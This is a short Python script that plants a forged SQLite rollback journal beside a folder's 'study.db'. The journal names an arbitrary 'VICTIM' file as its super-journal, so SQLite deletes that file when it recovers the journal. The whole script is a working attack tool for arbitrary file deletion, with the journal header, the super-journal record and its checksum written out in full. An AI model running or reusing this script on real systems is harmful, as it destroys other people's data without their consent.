#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""superjournal.py FOLDER VICTIM: gives the store of a result folder a journal that names VICTIM as its super-journal,
which SQLite deletes when it plays such a journal back (https://www.sqlite.org/fileformat.html, 3)."""
import struct
import sys

MAGIC = bytes.fromhex("d9d505f920a163d7")
folder, victim = sys.argv[1], sys.argv[2].encode()
with open(folder + "/study.db", "rb") as store:
    content = store.read()
page = struct.unpack(">H", content[16:18])[0]
journal = (MAGIC + struct.pack(">IIIII", 0, 0, len(content) // page, 512, page)).ljust(512, b"\0")
journal += struct.pack(">I", 0x40000000 // page + 1) + victim
journal += struct.pack(">II", len(victim), sum(victim)) + MAGIC
with open(folder + "/study.db-journal", "wb") as out:
    out.write(journal)
